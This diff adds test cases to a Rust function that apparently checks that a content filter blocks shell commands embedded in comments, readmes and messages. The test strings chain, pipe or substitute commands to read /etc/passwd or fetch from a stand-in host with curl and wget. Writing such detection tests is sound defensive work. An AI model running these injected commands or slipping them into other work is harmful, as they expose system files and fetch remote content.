@@ -359,6 +359,13 @@ fn programs_in_texts() {
         "version=$(curl http://a.example/x)",
         "try: ls $(wget http://a.example/x)",
         "if [ 1 ]; c''at /etc/passwd",
+        // No program is written so.
+        "v=1;cat /etc/passwd",
+        "v=1; cat /etc/passwd",
+        "tool -a;cat /etc/passwd",
+        "try: ls;cat /etc/passwd",
+        "if [ 1 ];cat /etc/passwd",
+        "$ tool|cat /etc/passwd",
     ] {
         for name in ["comment", "readme", "message"] {
             check.blocked(Class::Command, name, text);
